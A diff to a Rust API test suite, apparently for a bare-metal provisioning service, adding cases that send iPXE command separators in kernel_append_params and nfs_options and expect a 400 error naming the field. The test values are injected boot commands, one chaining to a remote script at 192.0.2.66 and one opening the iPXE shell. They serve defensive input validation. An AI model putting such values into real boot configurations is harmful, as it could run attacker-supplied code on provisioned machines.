@@ -662,6 +662,20 @@ fn hostile_input_gets_4xx_with_a_message_and_writes_nothing() {
         assert!(!fault(&reply).is_empty());
         assert!(header(&headers, "content-type").unwrap().starts_with("application/json"));
     }
+    // iPXE's command separators, as a word of kernel_append_params or a whole value: 400 naming
+    // the field.
+    for (field, value) in [
+        ("kernel_append_params", "console=ttyS0 && chain http://192.0.2.66/x.ipxe"),
+        ("kernel_append_params", "quiet ; shell"),
+        ("nfs_options", "||"),
+    ] {
+        let body = json!({"name": "sep", "driver": "fake", "instance_info": {field: value}});
+        let (status, _, reply) =
+            api.call("POST", "/v1/nodes", Some(&body.to_string()), &json_header);
+        assert_eq!(status, 400, "{field}={value:?}: {reply}");
+        assert!(fault(&reply).contains(&format!("instance_info.{field}")), "{}", fault(&reply));
+        assert!(fault(&reply).contains("command separator"), "{}", fault(&reply));
+    }
     // A huge body: 413 from its Content-Length, before the server reads it.
     {
         use std::io::{Read, Write};
